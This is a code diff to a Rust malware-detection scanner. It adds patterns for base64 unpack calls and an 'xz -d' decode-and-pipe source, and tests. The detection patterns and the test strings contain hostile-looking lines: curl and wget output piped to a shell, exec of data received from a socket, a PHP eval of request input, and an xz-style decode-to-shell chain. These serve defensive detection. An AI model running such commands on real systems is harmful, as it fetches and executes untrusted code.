@@ -31,7 +31,6 @@ const RUNS: &[&[u8]] = &[
     b"subprocess.run(",
     b"subprocess.call(",
     b"check_output(",
-    b"os.system(",
     b".system(",
     b"os.popen(",
     b"execSync(",
@@ -56,6 +55,10 @@ const DECODES: &[&[u8]] = &[
     b"b85decode(",
     b"a85decode(",
     b"b32decode(",
+    b".unpack1('m",
+    b".unpack1(\"m",
+    b".unpack('m",
+    b".unpack(\"m",
     b"TextDecoder(",
     b"bytes([",
     b"bytearray([",
@@ -91,6 +94,7 @@ const SOURCES: &[(&[u8], &str)] = &[
     (b"curl ", "fetch-and-run/pipe"),
     (b"wget ", "fetch-and-run/pipe"),
     (b"base64 -", "decode-and-run/pipe"),
+    (b"xz -d", "decode-and-run/pipe"),
 ];
 const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"dash", b"zsh", b"node", b"python", b"python3", b"perl"];
 
@@ -162,7 +166,8 @@ pub(super) fn read(bytes: &[u8], found: &mut BTreeSet<String>) {
     for hit in WORDS.find_iter(bytes) {
         let (at, number) = (hit.start(), hit.pattern().as_usize());
         if let Some(run) = RUNS.get(number) {
-            if at > 0 && bytes.get(at - 1).is_some_and(|byte| in_name(*byte)) {
+            // A method of whatever stands before it, or a name of its own.
+            if !run.starts_with(b".") && at > 0 && bytes.get(at - 1).is_some_and(|byte| in_name(*byte)) {
                 continue;
             }
             // PowerShell runs what the rest of the line makes.
@@ -349,6 +354,7 @@ mod tests {
         check(b"exec(code)\nrequests.get(x)\n", &[]);
         check(b"exec(s.recv(65536).decode(), {})", fetched);
         check(b"eval(substr($_SERVER['HTTP_X'], 8));", fetched);
+        check(b"eval(x.unpack1('m')); eval(x.unpack('N'))", nested);
         check(b"eval(code); s.recv(8); echo $_GET['x'];", &[]);
         check(b"exec(bytes([112,114]).decode())", nested);
         check(b"types.FunctionType(marshal.loads(x), globals())()", nested);
@@ -373,6 +379,8 @@ mod tests {
         check(b"curl -s http://x.invalid/a | sh\n", &["fetch-and-run/pipe"]);
         check(b"wget -qO- x.invalid | sudo /bin/bash -s\n", &["fetch-and-run/pipe"]);
         check(b"echo eA== | base64 -d | sh\n", &["decode-and-run/pipe"]);
+        check(b"sed x $srcdir/bad.xz | eval $map | xz -d 2>/dev/null | /bin/sh\n", &["decode-and-run/pipe"]);
+        check(b"xz -dc x.tar.xz | $(untar)\nxz -d x; sh y\n", &[]);
         check(b"curl x.invalid | tar x\nls | sh\n", &[]);
         check(
             b"(/usr/bin/curl -fsm 20 https://x.invalid/i -o /run/.i && sh /run/.i) &\n",
